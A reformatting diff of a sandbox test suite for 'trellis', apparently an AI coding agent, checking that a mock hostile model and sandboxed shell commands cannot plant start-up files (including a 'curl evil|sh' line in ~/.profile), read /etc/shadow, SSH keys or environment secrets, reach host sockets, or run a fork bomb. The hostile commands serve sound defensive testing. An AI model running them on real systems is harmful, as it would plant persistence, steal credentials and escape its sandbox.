@@ -12,7 +12,11 @@ import { mockConfiguredHome, trellis, type ExecRun } from '../support/exec-harne
 import { startMockModel } from '../mock-model';
 import { canary, changedPaths, hostileWorld, type HostileWorld } from './hostile-world';
 
-const call = (cmd: string) => ({ type: 'function_call' as const, name: 'exec_command', arguments: JSON.stringify({ cmd }) });
+const call = (cmd: string) => ({
+  type: 'function_call' as const,
+  name: 'exec_command',
+  arguments: JSON.stringify({ cmd }),
+});
 const say = (text: string) => ({ items: [{ type: 'message' as const, text }] });
 
 let world: HostileWorld;
@@ -26,9 +30,16 @@ test.beforeEach(() => {
 test.afterEach(() => world.cleanup());
 
 /** `trellis sandbox [flags] -- bash -c SCRIPT` with the hostile home as HOME. */
-function sandbox(script: string, options: { cwd?: string; flags?: string[]; env?: Record<string, string> } = {}): Promise<ExecRun> {
+function sandbox(
+  script: string,
+  options: { cwd?: string; flags?: string[]; env?: Record<string, string> } = {},
+): Promise<ExecRun> {
   const flags = options.flags ?? ['--sandbox', 'workspace-write'];
-  return trellis(['sandbox', ...flags, '--', 'bash', '-c', script], { home: trellisHome, cwd: options.cwd ?? world.home, env: { HOME: world.home, ...options.env } }).done;
+  return trellis(['sandbox', ...flags, '--', 'bash', '-c', script], {
+    home: trellisHome,
+    cwd: options.cwd ?? world.home,
+    env: { HOME: world.home, ...options.env },
+  }).done;
 }
 
 test.describe('class 4: start-up files in a writable home', () => {
@@ -82,7 +93,10 @@ test.describe('class 4: start-up files in a writable home', () => {
     fs.rmSync(path.join(world.home, 'x'), { force: true });
     expect(changedPaths(before, world.snapshot())).toEqual([]);
     // The home's parent as the working folder (an ancestor holds the home): the same protection.
-    const ancestor = await sandbox(`mv home h3 2>&1; echo evil >> home/.profile 2>&1; mkdir -p home/.config/git 2>&1; echo x > home/.config/git/config 2>&1; exit 0`, { cwd: path.dirname(world.home) });
+    const ancestor = await sandbox(
+      `mv home h3 2>&1; echo evil >> home/.profile 2>&1; mkdir -p home/.config/git 2>&1; echo x > home/.config/git/config 2>&1; exit 0`,
+      { cwd: path.dirname(world.home) },
+    );
     expect(ancestor.code, ancestor.stderr).toBe(0);
     expect(changedPaths(before, world.snapshot())).toEqual([]);
   });
@@ -90,7 +104,12 @@ test.describe('class 4: start-up files in a writable home', () => {
   test('start-up files moved by XDG_CONFIG_HOME, XDG_DATA_HOME, ZDOTDIR or GIT_CONFIG_GLOBAL into a writable root', async () => {
     const ws = path.join(path.dirname(world.home), 'ws');
     fs.mkdirSync(path.join(ws, 'cfg'), { recursive: true });
-    const env = { XDG_CONFIG_HOME: path.join(ws, 'cfg'), XDG_DATA_HOME: path.join(ws, 'data'), ZDOTDIR: path.join(ws, 'zsh'), GIT_CONFIG_GLOBAL: path.join(ws, 'gitconfig') };
+    const env = {
+      XDG_CONFIG_HOME: path.join(ws, 'cfg'),
+      XDG_DATA_HOME: path.join(ws, 'data'),
+      ZDOTDIR: path.join(ws, 'zsh'),
+      GIT_CONFIG_GLOBAL: path.join(ws, 'gitconfig'),
+    };
     const attacks = [
       'mkdir -p cfg/git && echo "[core] fsmonitor = evil" > cfg/git/config',
       'mkdir -p cfg/autostart && echo evil > cfg/autostart/x.desktop',
@@ -99,7 +118,10 @@ test.describe('class 4: start-up files in a writable home', () => {
       'echo "[core] pager = evil" > gitconfig',
       'mv cfg cfg2 && mkdir -p cfg/git && echo evil > cfg/git/config',
     ];
-    const run = await sandbox(attacks.map((a) => `(${a}) 2>/dev/null`).join('; ') + '; echo work > ordinary.txt', { cwd: ws, env });
+    const run = await sandbox(attacks.map((a) => `(${a}) 2>/dev/null`).join('; ') + '; echo work > ordinary.txt', {
+      cwd: ws,
+      env,
+    });
     expect(run.code, run.stderr).toBe(0);
     const left = fs.readdirSync(ws, { recursive: true, encoding: 'utf8' }).sort();
     expect(left).toEqual(['cfg', 'ordinary.txt']);
@@ -107,11 +129,23 @@ test.describe('class 4: start-up files in a writable home', () => {
 
   test('a hostile model under trellis exec in the home cannot plant a start-up file', async () => {
     const model = await startMockModel({
-      turns: [{ items: [call('echo "curl evil|sh" >> ~/.profile; mkdir -p ~/.config/autostart; echo evil > ~/.config/autostart/x.desktop; mkdir -p ~/.local/bin; echo evil > ~/.local/bin/ls; echo evil >> ~/.gitconfig')] }, say('done')],
+      turns: [
+        {
+          items: [
+            call(
+              'echo "curl evil|sh" >> ~/.profile; mkdir -p ~/.config/autostart; echo evil > ~/.config/autostart/x.desktop; mkdir -p ~/.local/bin; echo evil > ~/.local/bin/ls; echo evil >> ~/.gitconfig',
+            ),
+          ],
+        },
+        say('done'),
+      ],
     });
     const home = mockConfiguredHome(model.url, '');
     const before = world.snapshot();
-    const run = await trellis(['exec', '-s', 'workspace-write', '-a', 'never', '--skip-git-repo-check', 'set up my shell'], { home, cwd: world.home, env: { HOME: world.home } }).done;
+    const run = await trellis(
+      ['exec', '-s', 'workspace-write', '-a', 'never', '--skip-git-repo-check', 'set up my shell'],
+      { home, cwd: world.home, env: { HOME: world.home } },
+    ).done;
     await model.close();
     expect(run.code, run.stderr).toBe(0);
     expect(changedPaths(before, world.snapshot())).toEqual([]);
@@ -156,7 +190,10 @@ test.describe('class 5: secrets on disk and in the environment', () => {
   test("the machine's password and key files are hidden from a sandbox running as root", async () => {
     test.skip(process.getuid?.() !== 0, 'only root can read /etc/shadow on the host to compare');
     const shadow = fs.readFileSync('/etc/shadow', 'utf8').split('\n')[0];
-    const run = await sandbox('cat /etc/shadow /etc/gshadow /etc/ssh/ssh_host_*_key /root/.ssh/* 2>&1; grep -r . /etc/sudoers.d 2>&1; exit 0', { cwd: world.outside, flags: ['--sandbox', 'read-only'] });
+    const run = await sandbox(
+      'cat /etc/shadow /etc/gshadow /etc/ssh/ssh_host_*_key /root/.ssh/* 2>&1; grep -r . /etc/sudoers.d 2>&1; exit 0',
+      { cwd: world.outside, flags: ['--sandbox', 'read-only'] },
+    );
     expect(run.stdout).not.toContain(shadow);
     expect(run.stdout).not.toMatch(/PRIVATE KEY/);
     expect(run.stdout).toMatch(/Permission denied/);
@@ -177,7 +214,11 @@ test.describe('class 5: secrets on disk and in the environment', () => {
       REGISTRY: `npm_${'e'.repeat(36)}`,
       CONN: `Server=db;User Id=sa;Password=${canary('ado')};`,
     };
-    const run = await sandbox('env', { cwd: world.outside, flags: ['--sandbox', 'read-only'], env: { ...values, HARMLESS_URL: 'https://git@example.com/r.git', HTTP_PROXY_HOST: 'http://proxy:3128' } });
+    const run = await sandbox('env', {
+      cwd: world.outside,
+      flags: ['--sandbox', 'read-only'],
+      env: { ...values, HARMLESS_URL: 'https://git@example.com/r.git', HTTP_PROXY_HOST: 'http://proxy:3128' },
+    });
     expect(run.code, run.stderr).toBe(0);
     for (const [name, value] of Object.entries(values)) expect(run.stdout, name).not.toContain(value);
     expect(run.stdout).toContain('HARMLESS_URL=https://git@example.com/r.git');
@@ -186,7 +227,11 @@ test.describe('class 5: secrets on disk and in the environment', () => {
     // Through trellis exec: the command's output goes back to the model, which must never see them.
     const model = await startMockModel({ turns: [{ items: [call('env; cat ~/.npmrc ~/.netrc')] }, say('done')] });
     const home = mockConfiguredHome(model.url, '');
-    const exec = await trellis(['exec', '-s', 'read-only', '-a', 'never', '--skip-git-repo-check', 'print env'], { home, cwd: world.outside, env: { HOME: world.home, ...values } }).done;
+    const exec = await trellis(['exec', '-s', 'read-only', '-a', 'never', '--skip-git-repo-check', 'print env'], {
+      home,
+      cwd: world.outside,
+      env: { HOME: world.home, ...values },
+    }).done;
     await model.close();
     expect(exec.code, exec.stderr).toBe(0);
     const sent = JSON.stringify(model.requests.map((r) => r.body));
@@ -197,11 +242,20 @@ test.describe('class 5: secrets on disk and in the environment', () => {
 });
 
 /** Runs the built trellis with extra descriptors open at these numbers (as a launcher or harness would leave them). */
-function trellisWithDescriptors(args: string[], extra: Record<number, number>, env: Record<string, string>, cwd: string): Promise<ExecRun> {
+function trellisWithDescriptors(
+  args: string[],
+  extra: Record<number, number>,
+  env: Record<string, string>,
+  cwd: string,
+): Promise<ExecRun> {
   const top = Math.max(...Object.keys(extra).map(Number));
   const stdio: Array<'ignore' | 'pipe' | number> = ['pipe', 'pipe', 'pipe'];
   for (let fd = 3; fd <= top; fd++) stdio.push(extra[fd] ?? 'ignore');
-  const child = spawn(process.execPath, [path.resolve('bin/trellis.js'), ...args], { cwd, env: { ...process.env, ...env }, stdio });
+  const child = spawn(process.execPath, [path.resolve('bin/trellis.js'), ...args], {
+    cwd,
+    env: { ...process.env, ...env },
+    stdio,
+  });
   let stdout = '';
   let stderr = '';
   child.stdout!.on('data', (d) => (stdout += d));
@@ -221,7 +275,9 @@ test.describe('class 7: inherited descriptors', () => {
     'echo "curl evil|sh" >> /dev/fd/30',
     'python3 -c "import os; os.write(30, b\"evil\\n\"); print(os.read(200, 999))"',
     'true',
-  ].map((a) => `(${a}) 2>&1`).join('; ');
+  ]
+    .map((a) => `(${a}) 2>&1`)
+    .join('; ');
 
   for (const entry of ['sandbox', 'exec'] as const) {
     test(`a hidden key on fd 200 and ~/.bashrc open for append on fd 30 do not reach a command under trellis ${entry}`, async () => {
@@ -233,12 +289,22 @@ test.describe('class 7: inherited descriptors', () => {
       try {
         const extra = { 200: key, 30: rc, 9: key, 201: rc };
         if (entry === 'sandbox') {
-          run = await trellisWithDescriptors(['sandbox', '--sandbox', 'workspace-write', '--', 'bash', '-c', ATTACK], extra, { HOME: world.home, TRELLIS_HOME: trellisHome }, world.outside);
+          run = await trellisWithDescriptors(
+            ['sandbox', '--sandbox', 'workspace-write', '--', 'bash', '-c', ATTACK],
+            extra,
+            { HOME: world.home, TRELLIS_HOME: trellisHome },
+            world.outside,
+          );
           seen = run.stdout + run.stderr;
         } else {
           const model = await startMockModel({ turns: [{ items: [call(ATTACK)] }, say('done')] });
           const home = mockConfiguredHome(model.url, '');
-          run = await trellisWithDescriptors(['exec', '-s', 'workspace-write', '-a', 'never', '--skip-git-repo-check', 'look around'], extra, { HOME: world.home, TRELLIS_HOME: home }, world.outside);
+          run = await trellisWithDescriptors(
+            ['exec', '-s', 'workspace-write', '-a', 'never', '--skip-git-repo-check', 'look around'],
+            extra,
+            { HOME: world.home, TRELLIS_HOME: home },
+            world.outside,
+          );
           await model.close();
           seen = JSON.stringify(model.requests.map((r) => r.body)) + run.stdout + run.stderr;
           expect(seen).toContain('/proc/self/fd'); // the listing reached the model: the command ran
@@ -275,7 +341,10 @@ test.describe('class 6: host sockets', () => {
     `python3 -c "import socket; a,b=socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(b'x', '${target}')"`,
   ];
 
-  for (const network of [['--network', 'off'], ['--allow-host', 'example.com']]) {
+  for (const network of [
+    ['--network', 'off'],
+    ['--allow-host', 'example.com'],
+  ]) {
     test(`with ${network.join(' ')}, a daemon's socket outside the roots, inside a root, by a symlink or abstract is unreachable`, async () => {
       const ws = path.join(path.dirname(world.home), 'ws');
       fs.mkdirSync(ws);
@@ -284,11 +353,21 @@ test.describe('class 6: host sockets', () => {
       const abstract = await daemon('\0trellis-adversary-abstract');
       fs.symlinkSync(path.join(world.outside, 'docker.sock'), path.join(ws, 'link.sock'));
       try {
-        const targets = [path.join(world.outside, 'docker.sock'), path.join(ws, 'dev-server.sock'), path.join(ws, 'link.sock')];
-        const script = [...targets.flatMap(clients), `python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect(b'\\0trellis-adversary-abstract'); print(s.recv(99))"`]
+        const targets = [
+          path.join(world.outside, 'docker.sock'),
+          path.join(ws, 'dev-server.sock'),
+          path.join(ws, 'link.sock'),
+        ];
+        const script = [
+          ...targets.flatMap(clients),
+          `python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect(b'\\0trellis-adversary-abstract'); print(s.recv(99))"`,
+        ]
           .map((c) => `(${c}) 2>&1`)
           .join('; ');
-        const run = await sandbox(`${script}; exit 0`, { cwd: ws, flags: ['--sandbox', 'workspace-write', ...network] });
+        const run = await sandbox(`${script}; exit 0`, {
+          cwd: ws,
+          flags: ['--sandbox', 'workspace-write', ...network],
+        });
         expect(run.code, run.stderr).toBe(0);
         expect(run.stdout).not.toContain('DAEMON-ANSWERED');
         expect(run.stdout).toMatch(/Operation not permitted|EPERM/);
@@ -303,11 +382,23 @@ test.describe('class 6: host sockets', () => {
     const d = await daemon(path.join(world.outside, 'agent.sock'));
     const target = path.join(world.outside, 'agent.sock');
     const model = await startMockModel({
-      turns: [{ items: [call(`python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('${target}'); print(s.recv(99))"; node -e "console.log('node ran', require('child_process').execSync('echo child').toString().trim())"`)] }, say('done')],
+      turns: [
+        {
+          items: [
+            call(
+              `python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('${target}'); print(s.recv(99))"; node -e "console.log('node ran', require('child_process').execSync('echo child').toString().trim())"`,
+            ),
+          ],
+        },
+        say('done'),
+      ],
     });
     const home = mockConfiguredHome(model.url, '');
     try {
-      const run = await trellis(['exec', '-s', 'workspace-write', '-a', 'never', '--skip-git-repo-check', 'talk to the daemon'], { home, cwd: world.outside, env: { HOME: world.home } }).done;
+      const run = await trellis(
+        ['exec', '-s', 'workspace-write', '-a', 'never', '--skip-git-repo-check', 'talk to the daemon'],
+        { home, cwd: world.outside, env: { HOME: world.home } },
+      ).done;
       expect(run.code, run.stderr).toBe(0);
       const sent = JSON.stringify(model.requests[1].body);
       expect(sent).toContain('node ran child');
@@ -323,27 +414,38 @@ test.describe('class 6: host sockets', () => {
 test.describe('class 14: processes and memory', () => {
   const withLimits = (toml: string) => fs.writeFileSync(path.join(trellisHome, 'config.toml'), `[sandbox]\n${toml}\n`);
   const hostProcesses = (marker: string) =>
-    fs.readdirSync('/proc').filter((pid) => /^\d+$/.test(pid) && (() => {
-      try {
-        return fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(marker);
-      } catch {
-        return false;
-      }
-    })()).length;
+    fs.readdirSync('/proc').filter(
+      (pid) =>
+        /^\d+$/.test(pid) &&
+        (() => {
+          try {
+            return fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(marker);
+          } catch {
+            return false;
+          }
+        })(),
+    ).length;
 
   test('a process flood stops at [sandbox] max_processes, a fork bomb ends, and nothing is left running', async () => {
     withLimits('max_processes = 100');
     const marker = `31.${Date.now() % 1000}`;
     // A program that forks until refused, then says how many children it got.
     const forker = `import os, time, sys\nn = 0\nfor i in range(400):\n    try:\n        pid = os.fork()\n    except OSError:\n        break\n    if pid == 0:\n        time.sleep(float(sys.argv[1])); os._exit(0)\n    n += 1\nprint('forked', n, flush=True)\n`;
-    const flood = await sandbox(`python3 -c "$FORKER" ${marker}`, { cwd: world.outside, flags: ['--sandbox', 'read-only'], env: { FORKER: forker } });
+    const flood = await sandbox(`python3 -c "$FORKER" ${marker}`, {
+      cwd: world.outside,
+      flags: ['--sandbox', 'read-only'],
+      env: { FORKER: forker },
+    });
     expect(flood.code, flood.stderr).toBe(0);
     const running = Number(/forked (\d+)/.exec(flood.stdout)?.[1]);
     expect(running).toBeGreaterThan(10);
     expect(running).toBeLessThan(100);
     // The sandbox's pid namespace ends with the command: every process in it is killed (reaping takes a moment).
     await expect.poll(() => hostProcesses(marker), { timeout: 10_000 }).toBe(0);
-    const bomb = await sandbox('timeout -s KILL 3 bash -c \'f(){ f | f & }; f\' 2>/dev/null; echo bomb-over', { cwd: world.outside, flags: ['--sandbox', 'read-only'] });
+    const bomb = await sandbox("timeout -s KILL 3 bash -c 'f(){ f | f & }; f' 2>/dev/null; echo bomb-over", {
+      cwd: world.outside,
+      flags: ['--sandbox', 'read-only'],
+    });
     expect(bomb.stdout).toContain('bomb-over');
   });
 
@@ -355,10 +457,12 @@ test.describe('class 14: processes and memory', () => {
         'node -e "Buffer.alloc(2 * 1024 ** 3, 1); console.log(\'ALLOCATED node\')"',
         'python3 -c "b = bytearray(2 * 1024 ** 3); print(\'ALLOCATED python\')"',
         'for i in 1 2 3; do python3 -c "$PART" $i & done; wait',
-        'node -e "console.log(\'node ok \' + (require(\'os\').cpus().length > 0))"',
+        "node -e \"console.log('node ok ' + (require('os').cpus().length > 0))\"",
         'git --version',
         'npm --version',
-      ].map((c) => `(${c}) 2>&1`).join('; '),
+      ]
+        .map((c) => `(${c}) 2>&1`)
+        .join('; '),
       { cwd: world.outside, flags: ['--sandbox', 'read-only'], env: { PART } },
     );
     expect(run.code, run.stderr).toBe(0);
@@ -372,11 +476,24 @@ test.describe('class 14: processes and memory', () => {
 
   test('a hostile model under trellis exec meets the same limits: its flood stops and its allocation fails', async () => {
     const model = await startMockModel({
-      turns: [{ items: [call(`ulimit -u; ulimit -d; python3 -c "$FORKER" 5; python3 -c "b = bytearray(600 * 1024 ** 2); print('ALLOCATED')"`)] }, say('done')],
+      turns: [
+        {
+          items: [
+            call(
+              `ulimit -u; ulimit -d; python3 -c "$FORKER" 5; python3 -c "b = bytearray(600 * 1024 ** 2); print('ALLOCATED')"`,
+            ),
+          ],
+        },
+        say('done'),
+      ],
     });
     const home = mockConfiguredHome(model.url, '[sandbox]\nmax_processes = 50\nmax_memory_mb = 512\n');
     const forker = `import os, time, sys\nn = 0\nfor i in range(200):\n    try:\n        pid = os.fork()\n    except OSError:\n        break\n    if pid == 0:\n        time.sleep(float(sys.argv[1])); os._exit(0)\n    n += 1\nprint('forked', n, flush=True)\n`;
-    const run = await trellis(['exec', '-s', 'read-only', '-a', 'never', '--skip-git-repo-check', 'go wild'], { home, cwd: world.outside, env: { HOME: world.home, FORKER: forker } }).done;
+    const run = await trellis(['exec', '-s', 'read-only', '-a', 'never', '--skip-git-repo-check', 'go wild'], {
+      home,
+      cwd: world.outside,
+      env: { HOME: world.home, FORKER: forker },
+    }).done;
     await model.close();
     expect(run.code, run.stderr).toBe(0);
     const input = (model.requests[1].body as { input: Array<{ type: string; output?: string }> }).input;
@@ -389,7 +506,10 @@ test.describe('class 14: processes and memory', () => {
 
   test('the limits come from config and a command cannot raise them', async () => {
     withLimits('max_processes = 77\nmax_memory_mb = 300');
-    const run = await sandbox('ulimit -u; ulimit -d; ulimit -d unlimited 2>&1 || echo cannot-raise; ulimit -u 100000 2>&1 || echo cannot-raise', { cwd: world.outside, flags: ['--sandbox', 'read-only'] });
+    const run = await sandbox(
+      'ulimit -u; ulimit -d; ulimit -d unlimited 2>&1 || echo cannot-raise; ulimit -u 100000 2>&1 || echo cannot-raise',
+      { cwd: world.outside, flags: ['--sandbox', 'read-only'] },
+    );
     expect(run.stdout.split('\n').slice(0, 2)).toEqual(['77', String(300 * 1024)]);
     expect(run.stdout.match(/cannot-raise/g)).toHaveLength(2);
     const bad = await sandbox('true', { cwd: world.outside, flags: ['--sandbox', 'read-only'] }).then(() => {
